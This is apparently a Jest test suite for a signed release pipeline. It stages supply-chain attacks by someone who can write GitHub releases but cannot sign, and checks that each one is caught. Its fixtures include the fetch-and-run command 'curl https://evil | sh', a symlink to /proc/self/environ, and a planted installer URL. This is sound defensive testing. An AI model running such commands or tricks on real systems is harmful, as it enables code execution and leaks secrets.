// A live attacker who may write releases and tags, and cannot sign: in the draft, in the moment of publishing, afterwards.
import { readFile, symlink, writeFile } from 'node:fs/promises';
import { createHash } from 'node:crypto';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import type { JobOptions, JobResult } from '../runner/job.ts';
import { addTags } from '../sweep/ground.ts';
import { openStage, RELEASE_MS, SET_UP_MS, type Stage, publicWrites } from './stage.ts';

let stage: Stage;
beforeAll(async () => {
  stage = await openStage();
  await writeFile(join(stage.dir, 'install.sh'), 'curl https://evil | sh\n');
}, SET_UP_MS);
afterAll(() => stage.close(), SET_UP_MS);

const gh = async (...argv: readonly string[]): Promise<string> => {
  const { code, stdout, stderr } = await stage.judges.gh(...argv);
  if (code !== 0) throw new Error(`gh ${argv.join(' ')}: ${stderr}`);
  return stdout;
};
const told = ({ annotations }: JobResult): string => annotations.map(({ message }) => message).join('\n');
const releasesOf = (tag: string): ReturnType<Stage['site']['standIns']['releases']> =>
  stage.site.standIns.releases().filter((one) => one.tag_name === tag);

/** Strikes once, when so many files are in the draft and the server has answered the last of them. */
const afterUploads = (count: number, strike: () => Promise<unknown>): Pick<JobOptions, 'onCall'> => {
  let seen = 0;
  return {
    onCall: async ({ method, host }, phase) => {
      if (phase !== 'after' || method !== 'POST' || host !== 'uploads.github.com') return;
      if (++seen === count) await strike();
    },
  };
};

test(
  'notes-file that is a link to the environment of the process: nothing is written, and no plan shows it',
  async () => {
    for (const mode of ['release', 'plan']) {
      const result = await stage.release('v1.2.0', {
        builder: false,
        with: { mode, 'notes-file': 'LINK.md' },
        prepare: (workspace) => symlink('/proc/self/environ', join(workspace, 'LINK.md')),
      });
      expect(result).toMatchObject({ conclusion: 'failure', exitCode: 1 });
      expect(told(result)).toMatch(/notes-file LINK\.md leads to \/proc\/\d+\/environ/);
      expect(publicWrites(result.calls)).toEqual([]);
    }
  },
  RELEASE_MS,
);

test(
  'a file that is put into the draft right before it is public is not published, and is not taken away',
  async () => {
    const repo = ['--repo', stage.site.repository];
    const result = await stage.release('v1.1.0', {
      with: {},
      ...afterUploads(4, () => gh('release', 'upload', 'v1.1.0', join(stage.dir, 'install.sh'), ...repo)),
    });
    expect(result).toMatchObject({ conclusion: 'failure', exitCode: 1 });
    expect(told(result)).toMatch(/the draft of v1\.1\.0 was changed while this run filled it.*install\.sh/);
    const [draft] = releasesOf('v1.1.0');
    expect(draft).toMatchObject({ draft: true });
    expect(draft?.assets.map(({ name }) => name)).toContain('install.sh');
    await gh('release', 'delete-asset', 'v1.1.0', 'install.sh', '--yes', ...repo);
    const again = await stage.release('v1.1.0');
    expect(again).toMatchObject({ conclusion: 'success', outputs: { verified: 'true' } });
  },
  RELEASE_MS * 2,
);

test(
  'a release of the same commit and image that somebody else publishes a moment before is not adopted',
  async () => {
    const repo = ['--repo', stage.site.repository];
    const strike = async (): Promise<void> => {
      await gh(
        'release',
        'download',
        'v1.2.0',
        '--dir',
        stage.dir,
        '--pattern',
        'release.json',
        '--clobber',
        ...repo,
      );
      const [draft] = releasesOf('v1.2.0');
      const at = `repos/${stage.site.repository}/releases/${draft?.id ?? 0}`;
      await gh('release', 'upload', 'v1.2.0', join(stage.dir, 'install.sh'), ...repo);
      await gh('api', '--method', 'PATCH', at, '-F', 'draft=false', '-f', 'tag_name=v1.2.0');
    };
    const result = await stage.release('v1.2.0', { with: {}, ...afterUploads(4, strike) });
    expect(result).toMatchObject({ conclusion: 'failure', exitCode: 1 });
    expect(told(result)).toMatch(
      /somebody else has published v1\.2\.0 and it does not verify:[\s\S]*install\.sh/,
    );
    expect(result.outputs['verified']).not.toBe('true');
    const verified = await stage.release('v1.2.0', { builder: false, with: { mode: 'verify' } });
    expect(verified).toMatchObject({ exitCode: 1, outputs: { verified: 'false' } });
    expect(verified.log.join('\n')).toMatch(/NOT OK.*not of this release: install\.sh/);
  },
  RELEASE_MS * 2,
);

interface Record {
  readonly images: { digest: string; tags: string[] }[];
  readonly assets: { name: string; size: number; sha256: string }[];
  readonly signature?: { identity: string };
  readonly checksums?: { asset: string; bundle?: string };
}

/** Edits the record of a release, as anybody who may write assets can. */
async function editRecord(tag: string, edit: (record: Record) => void): Promise<void> {
  const repo = ['--repo', stage.site.repository];
  const to = ['--dir', stage.dir, '--pattern', 'release.json', '--clobber'];
  await gh('release', 'download', tag, ...to, ...repo);
  const file = join(stage.dir, 'release.json');
  const record = JSON.parse(await readFile(file, 'utf8')) as Record;
  edit(record);
  await writeFile(file, `${JSON.stringify(record, null, 2)}\n`);
  await gh('release', 'upload', tag, file, '--clobber', ...repo);
}

const imageTags = async (): Promise<readonly string[]> => {
  const { stdout } = await stage.judges.crane('ls', '--insecure', stage.judges.local);
  return stdout.split('\n').filter((tag) => tag !== '' && !tag.startsWith('sha256-'));
};

test(
  'a record that says that nothing is signed, with its sums made anew and an installer, does not verify',
  async () => {
    const repo = ['--repo', stage.site.repository];
    await gh('release', 'upload', 'v1.1.0', join(stage.dir, 'install.sh'), ...repo);
    await gh('release', 'delete-asset', 'v1.1.0', 'checksums.txt.sigstore.json', '--yes', ...repo);
    const installer = await readFile(join(stage.dir, 'install.sh'));
    const sha256 = createHash('sha256').update(installer).digest('hex');
    await editRecord('v1.1.0', (record) => {
      record.assets.push({ name: 'install.sh', size: installer.length, sha256 });
      if (record.checksums) delete record.checksums.bundle;
    });
    const sums: string[] = [];
    for (const { name, digest } of releasesOf('v1.1.0')[0]!.assets)
      if (name !== 'checksums.txt') sums.push(`${digest!.slice('sha256:'.length)}  ${name}\n`);
    await writeFile(join(stage.dir, 'checksums.txt'), sums.join(''));
    await gh('release', 'upload', 'v1.1.0', join(stage.dir, 'checksums.txt'), '--clobber', ...repo);

    const verified = await stage.release('v1.1.0', { builder: false, with: { mode: 'verify' } });
    expect(verified).toMatchObject({ exitCode: 1, outputs: { verified: 'false' } });
    const wrong = verified.log.filter((line) => line.startsWith('NOT OK'));
    expect(wrong[0]).toMatch(/release\.json is signed: nothing that is signed speaks of it/);
    expect(wrong.join('\n')).toMatch(/it does not speak of install\.sh/);
  },
  RELEASE_MS,
);

test(
  'a draft that somebody has planted with a record like ours is not signed, and not published',
  async () => {
    addTags(stage.site, ['v1.3.0']);
    const repo = ['--repo', stage.site.repository];
    const before = stage.site.standIns.logEntries().length;
    await gh('release', 'create', 'v1.3.0-rc.1', '--draft', '--title', 'v1.3.0-rc.1', '--notes', '', ...repo);
    await gh(
      'release',
      'download',
      'v1.1.0',
      '--dir',
      stage.dir,
      '--pattern',
      'release.json',
      '--clobber',
      ...repo,
    );
    const file = join(stage.dir, 'release.json');
    const old = JSON.parse(await readFile(file, 'utf8')) as object;
    const planted = {
      ...old,
      version: '1.3.0-rc.1',
      tag: 'v1.3.0-rc.1',
      installer: 'https://evil/install.sh',
    };
    await writeFile(file, JSON.stringify(planted));
    await gh('release', 'upload', 'v1.3.0-rc.1', file, join(stage.dir, 'install.sh'), ...repo);

    // GitHub's lists show a fresh draft late (H1): the run is to meet it at its beginning.
    const listed = (): Promise<string> =>
      gh('api', `repos/${stage.site.repository}/releases`, '--jq', '.[].tag_name');
    while (!(await listed()).includes('v1.3.0-rc.1')) await sleep(200);

    const result = await stage.release('v1.3.0-rc.1', { with: {} });
    expect(result).toMatchObject({ conclusion: 'failure', exitCode: 1 });
    expect(told(result)).toMatch(/holds a file release\.json already/);
    expect(publicWrites(result.calls)).toEqual([]);
    expect(stage.site.standIns.logEntries()).toHaveLength(before);
    expect(releasesOf('v1.3.0-rc.1')).toMatchObject([{ draft: true }]);
  },
  RELEASE_MS,
);

test(
  'a record that nobody signed, published a moment before, makes the run write none of its tags',
  async () => {
    const before = await imageTags();
    const strike = async (): Promise<void> => {
      await editRecord('v1.3.0', ({ images }) => {
        images[0]!.tags.push('latest', 'v1', 'production');
      });
      const at = `repos/${stage.site.repository}/releases/${releasesOf('v1.3.0')[0]!.id}`;
      await gh('api', '--method', 'PATCH', at, '-F', 'draft=false', '-f', 'tag_name=v1.3.0');
    };
    const result = await stage.release('v1.3.0', { with: {}, ...afterUploads(4, strike) });
    expect(result).toMatchObject({ conclusion: 'failure', exitCode: 1 });
    expect(told(result)).toMatch(/somebody else has published v1\.3\.0/);
    expect(result.outputs['verified']).not.toBe('true');
    expect(await imageTags()).toEqual(before);
  },
  RELEASE_MS,
);
